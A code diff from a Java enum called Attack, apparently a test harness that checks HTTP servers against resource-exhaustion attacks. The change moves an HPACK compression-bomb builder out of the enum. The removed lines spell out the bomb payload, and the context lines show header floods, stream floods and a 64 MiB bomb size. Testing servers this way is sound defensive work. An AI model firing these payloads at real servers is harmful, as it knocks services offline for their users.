@@ -99,7 +99,7 @@ public enum Attack {
                 flood(client.send("GET / HTTP/1.1\r\n"), "X-Y: %s\r\n".formatted("y".repeat(1000)));
             }
             try (var client = RawHttp2.open(target.port())) {
-                floodOfStreams(client, Attack::hpackBomb);
+                floodOfStreams(client, RawHttp2::hpackBomb);
             }
         }
     },
@@ -187,7 +187,6 @@ public enum Attack {
     private static final int INITIAL_WINDOW_SIZE = 4;
     private static final int CANCEL = 8;
     private static final int FRAMES = 20_000;
-    private static final int NEWEST_ENTRY = 62;
     private static final int BOMB_SIZE = 64 << 20;
     private static final Duration DRIP = Duration.ofMillis(100);
     private static final byte[] STREAM =
@@ -275,18 +274,6 @@ public enum Attack {
             var end = Math.min(bytes.length, i + piece);
             client.send(RawHttp2.data(1, end == bytes.length, Arrays.copyOfRange(bytes, i, end)));
         }
-    }
-
-    private static byte[] hpackBomb(int streamId) {
-        var length = 3900;
-        var head = new byte[] {0x40, 1, 'x', 127, (byte) ((length - 127) % 128 | 128), (byte) 29};
-        var references = new byte[10_000];
-        Arrays.fill(references, (byte) (0x80 | NEWEST_ENTRY));
-        return RawHttp2.frame(
-                RawHttp2.HEADERS,
-                RawHttp2.END_HEADERS | RawHttp2.END_STREAM,
-                streamId,
-                RawHttp2.join(head, new byte[length], references));
     }
 
     private static byte[] bomb(boolean isGzip) {
